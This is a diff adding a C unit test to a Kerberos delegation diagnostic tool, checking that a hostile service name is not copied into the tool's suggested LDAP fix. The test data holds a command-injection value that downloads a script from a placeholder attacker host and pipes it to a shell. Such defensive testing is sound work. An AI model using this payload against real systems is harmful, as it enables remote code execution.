@@ -257,6 +257,24 @@ START_TEST(t_s4u_target_requires_preauth)
 }
 END_TEST
 
+/* A hostile target name is not put into the fix's commands. */
+START_TEST(t_s4u_fix_hostile_name)
+{
+	struct kf_result *r = fx_new();
+	const char *evil = "HTTP/web$(curl${IFS}-s${IFS}evil.example|sh).lab.test";
+	struct kf_message *e = self_then_refused(r, "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC,
+						 evil, "LAB.TEST", 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
+	e->krb.cname = "HTTP/front.lab.test";
+	e->krb.crealm = "LAB.TEST";
+	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
+	ck_assert(contains(f->remediation, "krbAllowedToDelegateTo: <name> on the LDAP entry of "
+					   "HTTP/front.lab.test@LAB.TEST"));
+	ck_assert(contains(f->remediation, "Note: the name"));
+	ck_assert(!contains(f->remediation, "krbAllowedToDelegateTo: HTTP/web$("));
+	fx_free(r);
+}
+END_TEST
+
 /* Two service accounts of one host, both refused: two findings, each
  * naming its own account (MIT names it in the error's cname). */
 START_TEST(t_s4u_two_accounts_one_host)
@@ -1434,6 +1452,7 @@ int main(void)
 	tcase_add_test(a, t_s4u_not_allowed_to_delegate);
 	tcase_add_test(a, t_s4u_target_requires_preauth);
 	tcase_add_test(a, t_s4u_two_accounts_one_host);
+	tcase_add_test(a, t_s4u_fix_hostile_name);
 	tcase_add_test(a, t_s4u_one_account_two_hosts);
 	tcase_add_test(a, t_s4u_evidence_not_forwardable);
 	tcase_add_test(a, t_s4u_bare_badoption);
